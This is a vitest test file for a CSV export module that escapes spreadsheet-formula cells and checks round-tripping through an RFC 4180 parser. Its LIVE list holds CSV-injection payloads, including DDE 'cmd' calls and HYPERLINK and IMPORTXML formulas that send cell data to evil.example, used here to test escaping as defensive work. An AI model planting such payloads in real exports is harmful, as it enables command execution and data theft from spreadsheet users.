import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { cellOf, fileName, headerOf, linesOf, valueIn } from '../../csv/cells.rules.ts'

/** Of the OWASP page on CSV injection, and the programs that are passed around. */
const LIVE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?x="&A1,"Error")',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
  '="a"&"b"',
  "'=1+1",
  "''@SUM(1)",
]
const NUMBERS = ['0', '-1', '+1', '-1.5', '+4930123', '1e9', '-.5', '-3.']
const HARMLESS = ['', 'a', 'a=1', ' =1+1', "'", "'a", 'O=K', '5-3', 'née', '中文', '🙂', 'a\tb', '#REF!', '"=1+1"']

describe('a cell', () => {
  test.each(LIVE)('%j is no formula, and can be read back', (text) => {
    expect(cellOf(text)).toBe(`'${text}`)
    expect(valueIn(cellOf(text))).toBe(text)
  })

  test.each([...NUMBERS, ...HARMLESS])('%j stays as it is', (text) => {
    expect(cellOf(text)).toBe(text)
    expect(valueIn(cellOf(text))).toBe(text)
  })

  test.each([
    [null, ''],
    [undefined, ''],
    [0, '0'],
    [-12.5, '-12.5'],
    [true, 'true'],
    [false, 'false'],
    [[], ''],
    [['user', 'lead'], 'user; lead'],
    [['=1+1', 'lead'], `'=1+1; lead`],
    [[7, 9], '7; 9'],
    [{ approverId: 9, name: '=x' }, '{"approverId":9,"name":"=x"}'],
    [[{ a: 1 }, { a: null }], '{"a":1}; {"a":null}'],
  ])('%j is %j', (value, cell) => expect(cellOf(value)).toBe(cell))
})

describe('a line', () => {
  const fields = ['id', 'title']

  test('has the cells in the order of the fields, and nothing else', () => {
    expect(headerOf(fields)).toBe('id,title')
    expect(linesOf([{ title: 'b', secret: 'c', id: 1 }, { id: 2 }], fields)).toBe('1,b\r\n2,')
  })

  test.each([
    ...LIVE,
    ...NUMBERS,
    ...HARMLESS,
    'a,b',
    '"',
    '""',
    'a"b',
    'a\r\nb',
    'a\nb',
    'a\rb',
    ' a ',
    '﻿a',
    'a;=1+1',
  ])('%j is read back by a reader of RFC 4180', (text) => {
    const line = linesOf([{ id: text, title: text }], fields)
    expect(parse(line)).toEqual([[cellOf(text), cellOf(text)]])
  })
})

test('the name of a file has the day on the clocks of the tenant', () => {
  expect(fileName('tasks', '2026-11-28T23:30:00.000Z', 'UTC')).toBe('tasks-2026-11-28.csv')
  expect(fileName('tasks', '2026-11-28T23:30:00.000Z', 'Asia/Shanghai')).toBe('tasks-2026-11-29.csv')
})
